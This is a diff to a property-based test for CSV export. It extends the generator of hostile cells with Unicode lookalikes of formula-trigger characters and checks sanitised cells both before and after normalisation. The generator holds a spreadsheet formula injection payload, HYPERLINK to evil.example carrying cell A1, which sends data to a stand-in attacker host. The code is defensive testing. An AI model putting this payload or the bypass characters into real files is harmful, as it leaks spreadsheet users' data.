@@ -50,7 +50,23 @@ describe('CSV', () => {
   const hostile = fc
     .tuple(
       fc.constantFrom('', ' ', '\u0000', '\u00a0', '\ufeff', '\u200b', "'", '"', ',', '\r\n'),
-      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', 'a'),
+      fc.constantFrom(
+        '=',
+        '+',
+        '-',
+        '@',
+        '\t',
+        '\r',
+        '\n',
+        '＝',
+        '＋',
+        '－',
+        '＠',
+        '⁺',
+        '﹦',
+        '=\u0338',
+        'a',
+      ),
       fc.oneof(fc.constant('HYPERLINK("http://evil.example/"&A1)'), text(40)),
     )
     .map((parts) => parts.join(''));
@@ -64,9 +80,11 @@ describe('CSV', () => {
           assert.deepEqual(cells.map(unguarded), all);
           for (const cell of cells) {
             assert.ok(!DANGER.test(cell), JSON.stringify(cell));
-            // Spaces and hidden characters before it, and full width, are no way round.
-            const bare = cell.replace(/^[\s\p{C}]+/u, '').normalize('NFKC');
-            assert.ok(!/^[=+\-@]/.test(bare), JSON.stringify(cell));
+            // Spaces and hidden characters before it, and other forms, are no way round.
+            const bare = cell.replace(/^[\s\p{C}]+/u, '');
+            for (const shown of [bare, bare.normalize('NFKC')]) {
+              assert.ok(!/^[=+\-@]/.test(shown), JSON.stringify(cell));
+            }
           }
         },
       ),
